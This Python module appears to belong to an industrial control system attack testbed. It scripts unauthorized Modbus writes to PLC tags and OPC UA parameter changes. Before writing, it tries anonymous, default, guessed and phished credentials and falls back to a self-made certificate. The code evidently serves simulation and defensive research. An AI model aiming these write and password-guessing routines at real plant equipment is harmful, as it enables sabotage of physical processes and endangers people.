"""Commands that nobody gave: writes to PLCs and OPC UA servers.

ATT&CK for ICS T0855 and T0836.
"""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable, Iterable, Iterator
from typing import Annotated, Literal

from pydantic import Field

from devices.modbus import ModbusClient, Refusal
from devices.opcua import UaClient, make_certificate
from devices.opcua_model import SIGN_AND_ENCRYPT
from devices.registers import Table
from scenarios.attack import Attack, Seconds, Step
from testbed import site as sites
from testbed.site import Name, Site, TagName

#: What the ``guess`` credentials try: user names seen on such systems with the most common passwords (assumption).
GUESSES = tuple(
    (user, password)
    for user in ("operator", "admin", "engineer")
    for password in ("password", "123456", "admin", "scada", "1234", user)
)


def lacks_assets(site: Site, *names: str) -> Iterator[str]:
    """Sentences about assets that ``site`` does not have."""
    for name in names:
        if name not in site.assets:
            yield f"site {site.name!r} has no asset {name!r}"


def lacks_tags(site: Site, plc: str, tags: Iterable[str]) -> Iterator[str]:
    """Sentences about a PLC, or tags of it, that ``site`` does not have."""
    controllers = site.controllers()
    if plc not in controllers:
        yield f"site {site.name!r} has no PLC {plc!r}"
        return
    for tag in tags:
        if tag not in controllers[plc].tags:
            yield f"{plc} has no tag {tag!r}"


async def repeat(attack: Attack, every: float, lasting: float, once: Callable[[], Awaitable[None]]) -> None:
    """Do it at once and then every ``every`` s until ``lasting`` s are over."""
    end = attack.world.loop.time() + lasting
    while True:
        await once()
        if attack.world.loop.time() + every > end:
            return
        await asyncio.sleep(every)


class TagWrites(Step):
    """What steps that write tags of a PLC say: values in engineering units, again every ``every`` s."""

    plc: Name
    values: dict[TagName, float]
    every: Seconds = 10.0
    lasting: Annotated[float, Field(ge=0)] = 0.0

    def lacks(self, site: Site) -> Iterator[str]:
        yield from lacks_tags(site, self.plc, self.values)


class ModbusWrite(TagWrites):
    """Write tags of a PLC (engineering units) by Modbus, again every ``every`` s for ``lasting`` s."""

    action: Literal["modbus_write"]

    async def carry_out(self, attack: Attack) -> None:
        await modbus_write(attack, self)


async def modbus_write(attack: Attack, step: TagWrites) -> None:
    """T0855: write, whoever the PLC thinks is writing."""
    asset = attack.world.site.controllers()[step.plc]
    client = ModbusClient(asset.address, asset.port, unit=asset.unit_id)

    async def once() -> None:
        for name, value in step.values.items():
            tag = asset.tags[name]
            try:
                answer = await client.write(Table(tag.table), tag.address, tag.encode(value))
            except (TimeoutError, ConnectionError) as error:
                attack.note(step, "failed", target=step.plc, tag=name, reason=type(error).__name__)
                return
            if isinstance(answer, Refusal):
                attack.note(step, "refused", target=step.plc, tag=name, reason=str(answer))
                return
        attack.note(step, "done", target=step.plc)

    await repeat(attack, step.every, step.lasting, once)
    client.close()


class OpcUaWrite(Step):
    """Write variables of an OPC UA server, after logging in with the first credentials that work.

    ``credentials`` are tried in order: ``anonymous``, ``default`` (user names as passwords, as shipped), ``guess``
    (a list of common passwords) and ``stolen`` (the operator's own password, without a token).
    """

    action: Literal["opcua_write"]
    server: Name
    credentials: tuple[Literal["anonymous", "default", "guess", "stolen"], ...] = ("anonymous",)
    values: dict[TagName, float]
    every: Seconds = 10.0
    lasting: Annotated[float, Field(ge=0)] = 0.0

    def lacks(self, site: Site) -> Iterator[str]:
        if not isinstance(site.assets.get(self.server), sites.OpcUaServer):
            yield f"site {site.name!r} has no OPC UA server {self.server!r}"

    async def carry_out(self, attack: Attack) -> None:
        await opcua_write(attack, self)


async def opcua_write(attack: Attack, step: OpcUaWrite) -> None:
    """T0836 through T0859 or T0812: log in with what works, then change parameters."""
    server = attack.world.site.assets[step.server]
    assert isinstance(server, sites.OpcUaServer)
    url = f"opc.tcp://{server.address}:{server.port}"
    client, security = None, None
    papers = make_certificate("visitor", "urn:visitor", attack.world.stream("attacker's certificate"))
    for kind in step.credentials:
        for user, password in _credentials(attack, kind):
            tried = UaClient(
                url, user, password, security, *(papers if security is not None else (None, None))
            )
            try:
                refusal = await tried.connect()
                reason = refusal.status if refusal is not None else None
            except OSError as error:
                reason = type(error).__name__
            if reason is not None:
                attack.note(step, "refused", target=step.server, credentials=kind, reason=reason)
                if reason.startswith("BadSecurity"):
                    # With a certificate of the attacker's own making, which some servers take.
                    security = SIGN_AND_ENCRYPT
                await asyncio.sleep(1.0)  # a tool that tries passwords waits a little (assumption)
                continue
            client = tried
            attack.note(step, "session", target=step.server, credentials=kind)
            break
        if client is not None:
            break
    if client is None:
        return
    session = client

    async def once() -> None:
        for name, value in step.values.items():
            try:
                refused = await session.write(name, value)
            except OSError as error:
                attack.note(step, "failed", target=step.server, tag=name, reason=type(error).__name__)
                return
            if refused is not None:
                attack.note(step, "refused", target=step.server, tag=name, reason=refused.status)
            else:
                attack.note(step, "done", target=step.server, tag=name)

    await repeat(attack, step.every, step.lasting, once)
    await session.disconnect()


def _credentials(attack: Attack, kind: str) -> list[tuple[str | None, str | None]]:
    if kind == "anonymous":
        return [(None, None)]
    if kind == "default":
        return [("operator", "operator"), ("admin", "admin")]
    if kind == "guess":
        return list(GUESSES)
    # "stolen": what a phished operator types, which is a password and nothing that a token shows
    return [(operator.name, operator.password) for operator in attack.world.operators.values()]
